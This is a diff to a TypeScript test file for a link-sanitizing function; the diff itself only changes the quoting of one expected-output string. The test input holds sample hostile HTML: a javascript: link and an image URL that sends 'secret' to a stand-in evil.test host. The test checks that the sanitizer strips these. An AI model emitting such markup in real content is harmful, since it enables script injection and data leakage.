@@ -72,7 +72,7 @@ const CASES: [string, string, string, Record<string, number>][] = [
   [
     'raw HTML links and images',
     'Click <a href="javascript:alert(1)">here</a>, <A HREF=//evil.test/x>there</A>, <img src="https://evil.test/p.png?d=secret"> or <a href=\'https://docs.example.com/ok\'>ok</a>.',
-    'Click [link removed]here</a>, [link removed]there</A>, [link removed] or <a href=\'https://docs.example.com/ok\'>ok</a>.',
+    "Click [link removed]here</a>, [link removed]there</A>, [link removed] or <a href='https://docs.example.com/ok'>ok</a>.",
     { link: 3 },
   ],
   [
